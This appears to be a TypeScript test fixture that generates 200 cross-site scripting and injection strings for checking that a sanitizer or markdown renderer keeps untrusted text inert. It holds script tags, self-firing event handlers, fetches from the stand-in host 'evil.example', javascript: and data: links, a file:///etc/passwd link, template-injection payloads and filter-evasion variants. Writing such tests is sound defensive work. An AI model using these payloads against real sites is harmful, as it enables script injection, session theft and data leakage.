/**
 * [S-17] Two hundred texts that would run a script, fetch something from elsewhere or change a page where a text is taken
 * for markup: each shape in several spellings. Run, a script calls `ran(…)`; what is fetched is fetched from this host.
 */
export const elsewhere = 'evil.example'

const url = `https://${elsewhere}/x`
const call = 'ran(1)'

/** Scripts, in every way an element knows of. */
const scripts = [
  `<script>${call}</script>`,
  `<script src="${url}"></script>`,
  `<script type="module">${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<math><mtext><script>${call}</script></mtext></math>`,
  `</textarea><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `--></script><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
]

/** Handlers of things that happen by themselves. */
const handlers = [
  `<img src=x onerror=${call}>`,
  `<img src="${url}" onload="${call}">`,
  `<svg onload=${call}>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set onbegin=${call} attributeName=x>`,
  `<body onload=${call}>`,
  `<body onpageshow=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>x</details>`,
  `<dialog open onfocusin=${call} tabindex=0 autofocus>x</dialog>`,
  `<video autoplay src="${url}" onerror=${call}></video>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<object data=x onerror=${call}></object>`,
  `<iframe onload=${call}></iframe>`,
  `<style onload=${call}></style>`,
  `<link rel=stylesheet href="${url}" onerror=${call}>`,
  `<div onmouseover=${call} style="position:fixed;inset:0">x</div>`,
  `<div style="animation:x 1s" onanimationstart=${call}></div>`,
  `<a href=# onclick=${call} style="position:fixed;inset:0">x</a>`,
  `" onmouseover="${call}" x="`,
  `' autofocus onfocus='${call}`,
  `x onerror=${call}`,
]

/** Things that are fetched as soon as they are there. */
const fetches = [
  `<img src="${url}">`,
  `<img srcset="${url} 1x">`,
  `<picture><source srcset="${url}"><img></picture>`,
  `<image xlink:href="${url}">`,
  `<svg><image href="${url}"/></svg>`,
  `<svg><use href="${url}#a"/></svg>`,
  `<video poster="${url}"></video>`,
  `<iframe src="${url}"></iframe>`,
  `<iframe srcdoc="<img src=${url}>"></iframe>`,
  `<embed src="${url}">`,
  `<object data="${url}"></object>`,
  `<link rel=prefetch href="${url}">`,
  `<link rel=dns-prefetch href="//${elsewhere}">`,
  `<link rel=preconnect href="https://${elsewhere}">`,
  `<style>@import "${url}";</style>`,
  `<style>body{background:url(${url})}</style>`,
  `<style>@font-face{font-family:a;src:url(${url})}*{font-family:a}</style>`,
  `<div style="background-image:url(${url})">x</div>`,
  `<input type=image src="${url}">`,
  `<table background="${url}"><tr><td>x</table>`,
  `<track src="${url}">`,
  `<meta http-equiv=refresh content="0;url=${url}">`,
  `<base href="https://${elsewhere}/">`,
  `<form action="${url}"><button autofocus>x</button></form>`,
  `<portal src="${url}"></portal>`,
]

/** Texts that light formatting could take for a link, a picture or more than it is. */
const formatted = [
  `![x](${url})`,
  `![x](//${elsewhere}/x)`,
  `[![x](${url})](${url})`,
  `[x](javascript:${call})`,
  `[x](JaVaScRiPt:${call})`,
  `[x](java\tscript:${call})`,
  `[x](\u0001javascript:${call})`,
  `[x](javascript&colon;${call})`,
  `[x](data:text/html,<script>${call}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=)`,
  `[x](vbscript:${call})`,
  `[x](file:///etc/passwd)`,
  `[x](blob:https://${elsewhere}/1)`,
  `[x](view-source:${url})`,
  `[x](${url}" onmouseover="${call})`,
  `<javascript:${call}>`,
  `javascript:${call}`,
  `javascript://example.com/%0a${call}`,
  `https://example.com/"onmouseover="${call}`,
  `https://example.com/'onmouseover='${call}`,
  `https://example.com/<img src=x onerror=${call}>`,
  `*<img src=x onerror=${call}>*`,
  `_<svg onload=${call}>_`,
  `~<script>${call}</script>~`,
  `\`<img src=x onerror=${call}>\``,
  `*_*_*_<img src=x onerror=${call}>_*_*_*`,
  `[x]: javascript:${call}\n[x]`,
  `> <img src="${url}">`,
  `| a |\n| - |\n| <img src=x onerror=${call}> |`,
]

/** Templates of this and other worlds, ends of strings, and signs that confuse. */
const confusing = [
  '{{constructor.constructor("ran(1)")()}}',
  `\${${call}}`,
  '<%= ran(1) %>',
  '{{{<img src=x onerror=ran(1)>}}}',
  '__proto__',
  'constructor',
  '[object Object]<img src=x onerror=ran(1)>',
  `';${call};'`,
  `";${call};"`,
  `\`;${call};\``,
  `\u2028${call}\u2029`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  `%3Cimg%20src=x%20onerror=${call}%3E`,
  `\uff1cimg src=x onerror=${call}\uff1e`,
  `\u202e<gnp.exe onerror=${call}`,
  `<img src=x onerror\u00a0=${call}>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><img src=x onerror=${call}></template>`,
  `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  `<x-element is="y" onfocus=${call} tabindex=1 autofocus>`,
]

const shapes = [...scripts, ...handlers, ...fetches, ...formatted, ...confusing]

/** The same shape as those write it who were refused once. */
const spellings: ((text: string) => string)[] = [
  (text) => text.replace(/<([a-z])/g, (_, letter: string) => `<${letter.toUpperCase()}`),
  (text) => text.replace(/<(\w+) /g, '<$1/'),
  (text) => `Hello ${text} and goodbye`,
]

const size = 200

export const corpus: readonly string[] = [
  ...new Set([...shapes, ...spellings.flatMap((spell) => shapes.map(spell))]),
].slice(0, size)
